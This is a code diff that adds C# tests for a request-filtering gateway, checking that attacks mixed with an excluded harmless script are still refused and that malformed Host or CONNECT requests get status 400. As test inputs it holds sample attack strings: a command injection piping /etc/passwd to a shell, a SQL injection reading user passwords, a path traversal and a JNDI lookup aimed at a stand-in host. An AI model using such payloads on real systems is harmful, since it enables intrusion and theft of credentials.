@@ -52,6 +52,9 @@ public sealed class PolicyTests
 
         (await StatusAsync(gateway, "/search", "q", Sql)).ShouldBe(HttpStatusCode.OK);
         (await StatusAsync(gateway, "/search", "q", Script)).ShouldBe(HttpStatusCode.Forbidden);
+        (await StatusAsync(gateway, "/search", "q", Sql + " " + Script)).ShouldBe(HttpStatusCode.Forbidden);
+        (await StatusAsync(gateway, "/search", "q", Script + Sql)).ShouldBe(HttpStatusCode.Forbidden);
+        (await StatusAsync(gateway, "/search", "q", Sql + Sql + Sql + " ;cat /etc/passwd | sh")).ShouldBe(HttpStatusCode.Forbidden);
         (await StatusAsync(gateway, "/search", "r", Sql)).ShouldBe(HttpStatusCode.Forbidden);
         (await StatusAsync(gateway, "/", "q", Sql)).ShouldBe(HttpStatusCode.Forbidden);
     }
@@ -68,6 +71,35 @@ public sealed class PolicyTests
         using var answer = await gateway.Client.PostAsync(new Uri("/", UriKind.Relative), body, TestContext.Current.CancellationToken);
 
         answer.StatusCode.ShouldBe(HttpStatusCode.OK);
+    }
+
+    [Theory]
+    [InlineData("html", ";cat /etc/passwd|sh")]
+    [InlineData("html", "1' union select name, password from users --")]
+    [InlineData("html", "../../../../etc/passwd")]
+    [InlineData("html", "${jndi:ldap://x.example/a}")]
+    public async Task Serve_AttackBesideWhatIsExcluded_IsStillSeen(string name, string attack)
+    {
+        await using var gateway = await StartAsync(
+            """{ "default": { "mode": "block", "from": "high" }, "exclusions": [ { "id": "x1", "place": "query:html", "class": "xss" } ] }""",
+            _ => Task.CompletedTask,
+            () => new RequestScorer(s_model.Value, Encoding.Latin1));
+        const string Harmless = "<h1>Sale</h1><script>document.getElementById('sale').onclick = function () { alert('20 % off'); };</script>";
+
+        (await StatusAsync(gateway, "/", name, Harmless)).ShouldBe(HttpStatusCode.OK);
+        (await StatusAsync(gateway, "/", name, $"{Harmless} {attack}")).ShouldBe(HttpStatusCode.Forbidden);
+        (await StatusAsync(gateway, "/", name, $"{attack} {Harmless}")).ShouldBe(HttpStatusCode.Forbidden);
+    }
+
+    [Theory]
+    [InlineData("GET / HTTP/1.1\r\nHost: a'b\r\n\r\n")]
+    [InlineData("CONNECT /a HTTP/1.1\r\nHost: h\r\n\r\n")]
+    [InlineData("CONNECT h:80 HTTP/1.1\r\nHost: h:80\r\n\r\n")]
+    public async Task Serve_HostOrMethodThatCannotGoOn_IsRefused(string request)
+    {
+        await using var gateway = await StartAsync("{}", _ => Task.CompletedTask);
+
+        RawHttp.Statuses(await RawHttp.ExchangeAsync(gateway.EndPoint, request)).ShouldBe("400");
     }
 
     [Theory]
